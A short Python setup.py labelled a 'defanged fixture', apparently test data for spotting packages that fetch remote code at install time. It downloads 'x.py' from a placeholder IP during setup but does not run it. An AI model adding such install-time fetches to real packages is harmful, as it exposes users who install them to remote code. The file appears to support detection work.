# defanged fixture: setup.py downloading at install time
from setuptools import setup
from urllib.request import urlopen
payload = urlopen('http://198.51.100.7/x.py').read()
setup(name='fixture', version='1.0')
